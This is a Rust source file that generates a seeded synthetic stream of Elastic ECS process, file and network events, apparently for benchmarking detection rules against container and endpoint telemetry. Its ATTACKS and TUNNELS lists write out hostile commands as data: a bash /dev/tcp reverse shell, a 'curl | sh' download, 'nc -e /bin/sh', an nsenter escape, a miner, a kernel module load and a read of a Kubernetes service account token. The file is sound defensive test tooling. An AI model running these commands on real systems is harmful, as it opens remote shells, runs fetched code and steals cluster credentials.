//! A generated stream of ECS events, shaped like the Defend for Containers
//! (cloud_defend) and Elastic Endpoint documents described in the team's
//! notes on real event shapes: D4C documents nest objects and put dotted
//! keys inside them (`"container": {"image.name": …}`), Endpoint documents
//! nest every level; `event.category` and `event.type` are arrays,
//! `event.action` a string, `process.args` an array with the program first.
//!
//! The mix, per event drawn (the generator is seeded, so every run makes the
//! same stream):
//!
//! | share | kind |
//! |---|---|
//! | 55 % | D4C process `exec` in a container |
//! | 15 % | D4C process `fork` or `end` |
//! | 5 % | D4C file event |
//! | 15 % | Endpoint Linux process `exec` (no container) |
//! | 10 % | Endpoint network connection |
//!
//! The command of each process event is drawn from four lists: everyday
//! commands (85 %), near misses of the tunnelling rule such as `ssh` without
//! forwarding or `socat` without a listener (8 %), tunnelling tools that the
//! seed rule flags (2 %), and other attacker commands that other corpus
//! rules flag: reverse shells, downloads piped to a shell, `nsenter`,
//! setuid `chmod`, miners (5 %). The counts of events that match the seed
//! rule and the full pack are measured on the stream and reported with the
//! figures.

use serde_json::{Value as Json, json};

/// The kinds of event of the stream with their share in percent, as the
/// report lists them (the table above).
pub const MIX: &[(u32, &str)] = &[
    (55, "Defend for Containers process `exec` in a container"),
    (15, "Defend for Containers process `fork` or `end`"),
    (5, "Defend for Containers file event"),
    (15, "Elastic Endpoint Linux process `exec` (no container)"),
    (10, "Elastic Endpoint network connection"),
];

/// The lists the command of a process event is drawn from, with their
/// share in percent.
pub const COMMANDS: &[(u32, &str)] = &[
    (
        85,
        "everyday commands (ls, python3, nginx, curl to localhost, …)",
    ),
    (
        8,
        "near misses of the seed rule (ssh without forwarding, socat without a listener, …)",
    ),
    (
        2,
        "tunnelling tools the seed rule flags (ssh -L/-R, socat TCP4-LISTEN, chisel, ngrok, …)",
    ),
    (
        5,
        "other attacker commands (reverse shells, curl | sh, nsenter, setuid chmod, miners, …)",
    ),
];

/// The number of events in the bench stream.
pub const STREAM_EVENTS: usize = 10_000;

/// The seed of the bench stream.
pub const STREAM_SEED: u64 = 0x00e9_1c0d_e5ee_d5ed;

/// `count` events as NDJSON lines (without line ends).
pub fn generate(count: usize, seed: u64) -> Vec<String> {
    let mut rng = Rng(seed);
    (0..count)
        .map(|index| event(&mut rng, index).to_string())
        .collect()
}

/// The bench stream: [`STREAM_EVENTS`] events from [`STREAM_SEED`].
pub fn bench_stream() -> Vec<String> {
    generate(STREAM_EVENTS, STREAM_SEED)
}

/// splitmix64: small, fast, and the same everywhere.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    /// A number in `0..n`.
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }

    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len())]
    }

    fn percent(&mut self) -> usize {
        self.below(100)
    }

    fn hex(&mut self, digits: usize) -> String {
        let mut out = String::with_capacity(digits);
        while out.len() < digits {
            out.push_str(&format!("{:016x}", self.next()));
        }
        out.truncate(digits);
        out
    }
}

/// A command: executable path and arguments (the first is the program).
type Command = (&'static str, &'static [&'static str]);

const EVERYDAY: &[Command] = &[
    ("/bin/ls", &["ls", "-la", "/app"]),
    ("/bin/cat", &["cat", "/etc/hosts"]),
    (
        "/usr/bin/python3",
        &["python3", "/app/server.py", "--port", "8080"],
    ),
    ("/usr/local/bin/node", &["node", "dist/index.js"]),
    ("/usr/sbin/nginx", &["nginx", "-g", "daemon off;"]),
    ("/bin/sh", &["sh", "-c", "/app/healthcheck.sh"]),
    (
        "/usr/bin/curl",
        &["curl", "-fsS", "http://127.0.0.1:8080/healthz"],
    ),
    ("/bin/grep", &["grep", "-r", "ERROR", "/var/log/app"]),
    ("/bin/ps", &["ps", "aux"]),
    ("/bin/sleep", &["sleep", "30"]),
    (
        "/usr/bin/java",
        &["java", "-Xmx512m", "-jar", "/opt/app/app.jar"],
    ),
    ("/usr/bin/env", &["env"]),
    ("/bin/date", &["date", "+%s"]),
    (
        "/usr/bin/tail",
        &["tail", "-n", "100", "/var/log/app/app.log"],
    ),
    (
        "/usr/local/bin/gunicorn",
        &["gunicorn", "-w", "4", "-b", "0.0.0.0:8000", "app:app"],
    ),
    (
        "/usr/bin/find",
        &["find", "/tmp", "-mtime", "+7", "-delete"],
    ),
    ("/bin/mkdir", &["mkdir", "-p", "/app/cache"]),
    (
        "/usr/bin/redis-server",
        &["redis-server", "/etc/redis/redis.conf"],
    ),
    ("/usr/bin/git", &["git", "rev-parse", "HEAD"]),
    ("/bin/bash", &["bash", "-c", "echo ok"]),
];

/// Commands that come close to the tunnelling rule without matching it.
const NEAR_MISSES: &[Command] = &[
    ("/usr/bin/ssh", &["ssh", "deploy@10.0.4.12"]),
    (
        "/usr/bin/ssh",
        &["ssh", "-o", "StrictHostKeyChecking=no", "git@github.com"],
    ),
    ("/usr/bin/ssh", &["ssh", "-L", "8080:db:5432", "chmod"]),
    ("/usr/bin/socat", &["socat", "-", "TCP:10.0.0.8:6379"]),
    ("/usr/local/bin/chisel", &["chisel", "--help"]),
    (
        "/usr/bin/python3",
        &["python3", "relay.py", "10.1.2.3:8080"],
    ),
    ("/usr/bin/sshuttle", &["sshuttle", "--version"]),
    ("/usr/bin/nc", &["nc", "-z", "10.0.0.9", "5432"]),
];

/// Commands that the tunnelling rule flags.
const TUNNELS: &[Command] = &[
    (
        "/usr/bin/ssh",
        &["ssh", "-L", "8080:db.internal:5432", "jump@bastion"],
    ),
    (
        "/usr/bin/ssh",
        &["ssh", "-N", "-R", "9000:localhost:22", "ops@203.0.113.7"],
    ),
    (
        "/usr/bin/ssh",
        &["ssh", "-o", "DynamicForward=1080", "user@198.51.100.4"],
    ),
    (
        "/usr/bin/socat",
        &["socat", "TCP4-LISTEN:4444,fork", "TCP:10.0.0.5:22"],
    ),
    (
        "/usr/local/bin/chisel",
        &["chisel", "client", "198.51.100.9:443", "R:socks"],
    ),
    ("/usr/local/bin/ngrok", &["ngrok", "tcp", "22"]),
    (
        "/usr/bin/sshuttle",
        &["sshuttle", "-r", "user@198.51.100.2", "10.0.0.0/8"],
    ),
    ("/usr/local/bin/gost", &["gost", "-L=socks5://:1080"]),
    (
        "/usr/bin/plink",
        &["plink", "-N", "10.0.0.5:8080:192.168.1.10:80"],
    ),
    ("/usr/sbin/iodine", &["iodine", "-f", "t.example.com"]),
];

/// Attacker commands that other rules of the corpus flag.
const ATTACKS: &[Command] = &[
    ("/bin/bash", &["bash", "-i"]),
    (
        "/bin/bash",
        &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"],
    ),
    (
        "/bin/sh",
        &["sh", "-c", "curl -s http://203.0.113.8/x.sh | sh"],
    ),
    (
        "/usr/bin/wget",
        &["wget", "-qO-", "http://203.0.113.8/install.sh"],
    ),
    (
        "/usr/bin/nsenter",
        &["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh"],
    ),
    ("/bin/chmod", &["chmod", "u+s", "/tmp/.x"]),
    (
        "/usr/bin/nc",
        &["nc", "-e", "/bin/sh", "203.0.113.5", "4444"],
    ),
    (
        "/tmp/xmrig",
        &[
            "xmrig",
            "-o",
            "stratum+tcp://pool.example:3333",
            "--donate-level",
            "1",
        ],
    ),
    ("/usr/bin/base64", &["base64", "-d", "/tmp/p.b64"]),
    ("/sbin/insmod", &["insmod", "/tmp/rk.ko"]),
    (
        "/usr/bin/python3",
        &["python3", "-c", "import pty; pty.spawn('/bin/sh')"],
    ),
    (
        "/usr/bin/cat",
        &["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
    ),
];

const PARENTS: &[(&str, &str)] = &[
    ("bash", "/bin/bash"),
    ("sh", "/bin/sh"),
    ("containerd-shim", "/usr/bin/containerd-shim-runc-v2"),
    ("node", "/usr/local/bin/node"),
    ("python3", "/usr/bin/python3"),
    ("nginx", "/usr/sbin/nginx"),
    ("java", "/usr/bin/java"),
    ("sshd", "/usr/sbin/sshd"),
];

const IMAGES: &[&str] = &[
    "registry.example/api",
    "registry.example/web",
    "docker.io/library/redis",
    "registry.example/worker",
    "docker.io/library/nginx",
];

fn command(rng: &mut Rng) -> Command {
    match rng.percent() {
        0..85 => *rng.pick(EVERYDAY),
        85..93 => *rng.pick(NEAR_MISSES),
        93..95 => *rng.pick(TUNNELS),
        _ => *rng.pick(ATTACKS),
    }
}

fn timestamp(index: usize) -> String {
    let seconds = index / 1000;
    format!(
        "2026-03-02T10:{:02}:{:02}.{:06}Z",
        (seconds / 60) % 60,
        seconds % 60,
        (index % 1000) * 997
    )
}

fn event(rng: &mut Rng, index: usize) -> Json {
    match rng.percent() {
        0..55 => d4c_process(rng, index, "exec"),
        55..70 => {
            let action = if rng.below(2) == 0 { "fork" } else { "end" };
            d4c_process(rng, index, action)
        }
        70..75 => d4c_file(rng, index),
        75..90 => endpoint_process(rng, index),
        _ => endpoint_network(rng, index),
    }
}

fn d4c_context(rng: &mut Rng) -> (Json, Json) {
    let image = *rng.pick(IMAGES);
    let container = json!({
        "id": rng.hex(64),
        "name": image.rsplit('/').next().unwrap_or("app"),
        "image.name": image,
        "image.tag": [format!("1.{}.{}", rng.below(9), rng.below(20))],
    });
    let orchestrator = json!({
        "namespace": *rng.pick(&["prod", "staging", "kube-system"]),
        "resource.name": format!("{}-{}", image.rsplit('/').next().unwrap_or("app"), rng.hex(5)),
        "resource.type": "pod",
        "cluster.name": "c1",
    });
    (container, orchestrator)
}

fn d4c_process(rng: &mut Rng, index: usize, action: &str) -> Json {
    let (executable, args) = command(rng);
    let (parent_name, parent_executable) = *rng.pick(PARENTS);
    let (container, orchestrator) = d4c_context(rng);
    let kind = match action {
        "end" => "end",
        _ => "start",
    };
    json!({
        "@timestamp": timestamp(index),
        "event": {
            "kind": "event",
            "category": ["process"],
            "type": [kind],
            "action": action,
            "module": "cloud_defend",
            "dataset": "cloud_defend.process",
        },
        "process": {
            "name": args[0],
            "executable": executable,
            "args": args,
            "pid": 1000 + rng.below(30_000),
            "entity_id": rng.hex(24),
            "working_directory": "/app",
            "interactive": rng.below(4) == 0,
            "parent": {
                "name": parent_name,
                "executable": parent_executable,
                "args": [parent_name],
                "pid": 1 + rng.below(1000),
            },
            "entry_leader": {"entry_meta": {"type": "container"}, "name": "containerd-shim"},
            "user": {"id": "0", "name": "root"},
        },
        "container": container,
        "orchestrator": orchestrator,
        "host": {"os": {"type": "linux"}, "name": format!("node-{}", rng.below(8))},
        "cloud_defend": {"hook_point": ["tracepoint__sched_process_exec"]},
        "data_stream": {"dataset": "cloud_defend.process", "type": "logs", "namespace": "default"},
    })
}

fn d4c_file(rng: &mut Rng, index: usize) -> Json {
    let (container, orchestrator) = d4c_context(rng);
    let (action, kind) = *rng.pick(&[
        ("open", "change"),
        ("create", "creation"),
        ("delete", "deletion"),
        ("rename", "change"),
    ]);
    let path = *rng.pick(&[
        "/app/cache/session.tmp",
        "/var/log/app/app.log",
        "/etc/passwd",
        "/tmp/.x",
        "/proc/sys/kernel/core_pattern",
        "/root/.ssh/authorized_keys",
    ]);
    json!({
        "@timestamp": timestamp(index),
        "event": {
            "kind": "event",
            "category": ["file"],
            "type": [kind],
            "action": action,
            "module": "cloud_defend",
            "dataset": "cloud_defend.file",
        },
        "file": {
            "path": path,
            "name": path.rsplit('/').next().unwrap_or(path),
            "extension": path.rsplit_once('.').map_or("", |(_, ext)| ext),
        },
        "process": {
            "name": "python3",
            "executable": "/usr/bin/python3",
            "pid": 1000 + rng.below(30_000),
        },
        "container": container,
        "orchestrator": orchestrator,
        "host": {"os": {"type": "linux"}, "name": format!("node-{}", rng.below(8))},
        "data_stream": {"dataset": "cloud_defend.file", "type": "logs", "namespace": "default"},
    })
}

fn endpoint_host(rng: &mut Rng) -> Json {
    json!({
        "hostname": format!("web-{}", rng.below(20)),
        "name": format!("web-{}", rng.below(20)),
        "os": {
            "type": "linux",
            "family": "ubuntu",
            "name": "Linux",
            "platform": "ubuntu",
            "kernel": "5.15.0-105-generic",
            "version": "22.04",
        },
        "ip": ["10.0.1.17", "fe80::1"],
    })
}

fn endpoint_process(rng: &mut Rng, index: usize) -> Json {
    let (executable, args) = command(rng);
    let (parent_name, parent_executable) = *rng.pick(PARENTS);
    let user = *rng.pick(&["root", "www-data", "ubuntu", "postgres"]);
    json!({
        "@timestamp": timestamp(index),
        "agent": {"type": "endpoint", "version": "8.17.0", "id": rng.hex(32)},
        "event": {
            "kind": "event",
            "category": ["process"],
            "type": ["start"],
            "action": "exec",
            "module": "endpoint",
            "dataset": "endpoint.events.process",
            "id": rng.hex(20),
        },
        "process": {
            "name": args[0],
            "executable": executable,
            "args": args,
            "args_count": args.len(),
            "command_line": args.join(" "),
            "pid": 1000 + rng.below(60_000),
            "entity_id": rng.hex(40),
            "working_directory": "/home/ubuntu",
            "parent": {
                "name": parent_name,
                "executable": parent_executable,
                "args": [parent_executable],
                "command_line": parent_executable,
                "pid": 1 + rng.below(1000),
            },
            "session_leader": {"name": "sshd", "pid": 812},
            "user": {"id": "0"},
        },
        "user": {"name": user, "id": "1000"},
        "host": endpoint_host(rng),
        "data_stream": {"dataset": "endpoint.events.process", "type": "logs", "namespace": "default"},
        "ecs": {"version": "8.11.0"},
    })
}

fn endpoint_network(rng: &mut Rng, index: usize) -> Json {
    let (name, executable) = *rng.pick(&[
        ("curl", "/usr/bin/curl"),
        ("python3", "/usr/bin/python3"),
        ("nginx", "/usr/sbin/nginx"),
        ("sshd", "/usr/sbin/sshd"),
        ("wget", "/usr/bin/wget"),
    ]);
    let destination = *rng.pick(&[
        "10.0.2.30",
        "203.0.113.5",
        "169.254.169.254",
        "198.51.100.20",
    ]);
    json!({
        "@timestamp": timestamp(index),
        "agent": {"type": "endpoint", "version": "8.17.0"},
        "event": {
            "kind": "event",
            "category": ["network"],
            "type": ["start"],
            "action": "connection_attempted",
            "module": "endpoint",
            "dataset": "endpoint.events.network",
        },
        "process": {"name": name, "executable": executable, "pid": 1000 + rng.below(60_000)},
        "source": {"ip": "10.0.1.17", "port": 30_000 + rng.below(30_000)},
        "destination": {"ip": destination, "port": *rng.pick(&[80, 443, 22, 4444, 5432])},
        "network": {"transport": "tcp", "type": "ipv4", "direction": "egress"},
        "user": {"name": "ubuntu", "id": "1000"},
        "host": endpoint_host(rng),
        "data_stream": {"dataset": "endpoint.events.network", "type": "logs", "namespace": "default"},
    })
}
